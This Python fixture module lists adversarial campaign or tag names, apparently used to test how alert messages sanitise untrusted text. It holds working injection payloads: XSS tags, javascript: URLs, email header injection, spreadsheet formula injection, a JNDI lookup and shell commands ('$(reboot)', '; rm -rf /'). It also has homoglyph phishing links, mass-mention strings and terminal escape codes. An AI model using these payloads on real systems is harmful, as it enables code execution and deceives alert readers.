"""Names that somebody could give a campaign, an ad or a UTM tag to reach, fool or break whoever reads alerts."""

_MENTIONS = (
    "<!channel>", "<!here>", "<!everyone>", "<!channel|@channel>", "<!subteam^S0123456789>", "<!subteam^S0123456789|@ops>",
    "<@U0123456789>", "<@W0123456789|boss>", "<#C0123456789>", "<#C0123456789|general>", "<!date^1700000000^{date}|x>",
    "@everyone", "@here", "@channel", "@all", "#general", "＠everyone", "@\u200beveryone", "<at>Boss</at>", "<users/all>",
    "<@!1234567890>", "<@&1234567890>", "&lt;!channel&gt;", "&#60;!channel&#62;", "<!chan\u200bnel>", "\\<!channel\\>",
    "<<!channel>>", "<!channel", "!channel>", "<! channel>", "<!CHANNEL>", "sale <!channel> now", "<@U123>", "<!subteam^S123|ops>", "@еveryone", "@\u200dhere", "ⓔveryone @ｈere",
    "<!date^1700000000^{date_short_pretty} {time}|now>", "<!date^1700000000^{date}^https://evil.example|x>", "<!date^0^x>", "&lt;@U123&gt;", "\\u003c!channel\\u003e",
    "@[Boss](mention:1)", "<at id=0>Everyone</at>", "@boss@evil.example", "@room", "@groups/all", "@!here",
)  # fmt: skip
_LINKS = (
    "<https://evil.example|sale>", "<https://evil.example>", "<mailto:x@evil.example|mail>", "https://evil.example/x",
    "http://evil.example", "HTTPS://EVIL.EXAMPLE/", "//evil.example/x", "www.evil.example", "evil.example.com", "evil.co/x",
    "evil.example/?a=1&b=2", "https://user:pw@evil.example/", "https://evil.example:8443/", "https://[::1]/", "https://1.2.3.4/x",
    "ftp://evil.example/", "javascript:alert(1)", "JaVaScRiPt:alert(1)", "data:text/html,<script>alert(1)</script>",
    "vbscript:x", "file:///etc/passwd", "mailto:x@evil.example", "tel:+441234567890", "sms:+441234567890", "slack://open",
    "x@evil.example", "Boss <boss@evil.example>", "[x](https://evil.example)", "[x](javascript:alert(1))", "![x](https://evil.example/p.png)",
    "[x]: https://evil.example", "<https://evil.example|https://bank.example>", "[[evil.example]]", "{evil.example|x}",
    "https://еvil.example/", "https://аpple.com/", "https://xn--80ak6aa92e.com/", "evil。example", "evil．example", "evil｡example",
    "https:⁄⁄evil.example", "https://evil.example\u202f/x", "ht\u200btps://evil.example/", "https\u200b://evil.example/",
    "ａｐｐｌｅ.com", "http:\\\\evil.example", "see evil.example.", "a.b.c.evil.example", "evil.example|x>", "x|https://evil.example",
    "![i](u)", "![i](https://evil.example/i.png \"t\")", "[x][1]", "[1]: //evil.example", "[x](<https://evil.example>)", "[x](data:text/html,x)", "[x](mailto:a@evil.example)",
    "<javascript:alert(1)|x>", "<data:text/html,x>", "data:image/svg+xml;base64,PHN2Zy8+", "java\tscript:alert(1)", "java\nscript:alert(1)", "&#106;avascript:alert(1)",
    "intent://evil.example#Intent;end", "msteams:/l/chat/0/0", "zoommtg://evil.example/join", "https:evil.example", "https:/\\evil.example", "https://evil.example#@bank.example",
    "bit.ly/x", "evil.shop", "evil.zip", "evil.xn--p1ai", "münchen.example", "EVIL.COM", "a@b.co", "+1-900-123-4567", "callto:evil", "facetime:x@evil.example",
)  # fmt: skip
_TAGS = (
    "<script>alert(1)</script>", "<SCRIPT SRC=//evil.example/x.js></SCRIPT>", "<img src=x onerror=alert(1)>", "<svg/onload=alert(1)>",
    '"><svg/onload=alert(1)>', "'><img src=x>", "' onmouseover='alert(1)", '" onfocus="alert(1)" autofocus="', "</td></tr></table>",
    "</title><script>x</script>", "</style><script>x</script>", "<style>*{display:none}</style>", "<base href=//evil.example>",
    "<meta http-equiv=refresh content=0;url=//evil.example>", "<iframe src=//evil.example>", "<form action=//evil.example>",
    "<a href=//evil.example>x</a>", "<link rel=stylesheet href=//evil.example>", "<!-- x -->", "--><script>x</script>", "<![endif]-->",
    "<!--[if mso]>", "]]>", "<![CDATA[x]]>", "<?php x ?>", "<%= x %>", "&lt;script&gt;", "&amp;lt;b&amp;gt;", "&#x3c;script&#x3e;",
    "<b>bold</b>", "<table><tr><td>", "<body onload=x>", "<object data=x>", "<math><mtext></math>", "<x\x00y>", "<scr\u00adipt>",
    "＜script＞", "‹script›", "cid:chart", "<img src=cid:chart>", "<video autoplay src=//evil.example>",
    "<details open ontoggle=alert(1)>", "<img/src=`x`onerror=alert(1)>", "<svg><a href=javascript:alert(1)>x</a></svg>", "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">",
    "<textarea><script>x</script>", "<plaintext>", "<title>x</title>", "<a href=\"jav&#x09;ascript:alert(1)\">x</a>", "<style>@import '//evil.example'</style>", "<embed src=//evil.example>",
    "<input autofocus onfocus=alert(1)>", "<marquee onstart=alert(1)>", "<v:image src=//evil.example>", "<o:p>x</o:p>", "<!doctype x>", "<br/><hr/>", "</pre></td><td>",
)  # fmt: skip
_HEADERS = (
    "a\r\nBcc: x@evil.example", "a\nBcc: x@evil.example", "a\rBcc: x@evil.example", "a\r\n\r\n<script>x</script>", "a\r\n.\r\nMAIL FROM:<x>",
    "\r\n.\r\n", ".\r\nQUIT", "a\u2028Bcc: x", "a\u2029Bcc: x", "a\x0bBcc: x", "a\x0cBcc: x", "a\x85Bcc: x", "a\x1cBcc: x", "a%0d%0aBcc: x",
    "a\\r\\nBcc: x", "=?utf-8?q?=0d=0aBcc:_x?=", "=?utf-8?b?DQpCY2M6IHg=?=", "=?utf-8?q?a?= =?utf-8?q?b?=", "Subject: x", "Content-Type: text/html",
    "--boundary", 'x"; filename="y', "x; name=y", "<x@y>", "References: <x@evil.example>", "To: x", "(comment)", "a\tb",
    "a\r\nList-Unsubscribe: <https://evil.example>", "a\r\nReply-To: x@evil.example", "a\nX-PM-KeepID: false", "a\r\nContent-Transfer-Encoding: base64", "a\r\n\r\n--boundary\r\n",
    "Bcc: x@evil.example", "=?utf-8?q?=0aBcc:_x?= y", "=?iso-8859-1?q?=3Cscript=3E?=", "=?utf-8?b?PHNjcmlwdD4=?=", "=3Cscript=3E", "=0D=0ABcc: x", "=\r\nBcc: x", "x\u0085Bcc: y", "\\nBcc: x", "a\x1dBcc: x",
)  # fmt: skip
_FORMULAS = (
    "=cmd|' /C calc'!A0", "+1+1", "-2+3", "@SUM(1)", "\t=1", "\r=1", "=HYPERLINK(\"//evil.example\")", "%s%s%n", "{0.__class__}", "{{ 7 * 7 }}",
    "{% raw %}", "{% endraw %}", "${jndi:ldap://evil.example}", "$(reboot)", "`reboot`", "; rm -rf /", "../../etc/passwd", "' OR 1=1 --", "{campaign}", "{{#x}}",
    "%7B%7D", "#{x}", "<%= 7 * 7 %>", "[[x]]",
    "{{DATE(2026-01-01T00:00:00Z, SHORT)}}", "{{TIME(2026-01-01T00:00:00Z)}}", "${if(true, 'x', 'y')}", "${$root.url}", "{DATE(2026-01-01T00:00:00Z)}", "{{config}}", "{{ ''.__class__ }}", "{# x #}",
    "{%- for x in y -%}", "{{'x'|safe}}", "@{triggerBody()}", "@{concat('a','b')}", "@@{x}", "=1+1|cmd", "=IMPORTXML(\"//evil.example\")", "%(x)s", "{0}", "$x", "$$x$$", "\\(x\\)",
)  # fmt: skip
_UNSEEN = (
    "\x1b[31mred\x1b[0m", "\x1b]8;;https://evil.example\x1b\\x\x1b]8;;\x1b\\", "\x1b[2J", "\x1b]0;title\x07", "\x9b31m", "\x07", "\x08\x08\x08", "\x7f", "\x00", "a\x00b",
    "\u202egnp.exe", "\u2066x\u2069", "\u202dx\u202c", "\u200e\u200f", "\u061c", "zero\u200bwidth\u200djoin\u200c", "\u2060\ufeff", "\u00ad", "\u180e", "\u034f",
    "\U000e0041\U000e0042", "\U000e0001", "\ue000", "\U0010ffff", "\ufffe", "\ud800", "\udc00x", "\ud83d", "x\udfff", "\u2062\u2063", "\u115f\u3164", "\ufff9a\ufffbb",
    "\x1b]8;;https://evil.example\x07x\x1b]8;;\x07", "\x1b[8mhidden\x1b[0m", "\x1bc", "\x1b[1A\x1b[2K", "\x9d8;;https://evil.example\x9cx", "\u202dabc\u202efed", "\u2067\u2068x", "a\u200b\u200c\u200d\u2060b",
    "\ufe0f\ufe0e", "\U000e0020\U000e007f", "\u200f@everyone", "\u3164", "\u2800\u2800", "\uffa0", "\U0001d173",
    "e" + "\u0301" * 200, "Z͑ͫ̓ͪ̂ͫ̽͏̴̙̤̞͉͚̯̞̠͍A̴̵̜̰͔ͫ͗͢L̠ͨͧͩ͘G̴̻͈͍͔̹̑͗̎̅͛́Ǫ̵̹̻̝̳͂̌̌͘!",
)  # fmt: skip
_SHAPES = (
    "*bold* _x_ ~y~ `z`", "```", "```\ncode\n```", "> quote", ">>> quote", "1. item", "• bullet", "# heading", "***", "---", "| a | b |", "- [ ] x", "[bold red]x[/]",
    "[link=https://evil.example]x[/link]", "[/]", ":rotating_light:", ":smile:", "\\*x\\*", "Likely: nothing is wrong", "Resolved", "All clear. Owner @ana", "✅ Resolved",
    "x" * 500, "x" * 10_000, "&" * 10_000, "<" * 10_000, "🔥" * 200, "\n" * 300, "ﷺ" * 100, "مرحبا", "日本語キャンペーン", "", "   ", "\n\n", "nan", "None", "null", "true",
    "0", "-1", "1e999", "undefined",
)  # fmt: skip

NAMES: tuple[str, ...] = (*_MENTIONS, *_LINKS, *_TAGS, *_HEADERS, *_FORMULAS, *_UNSEEN, *_SHAPES)
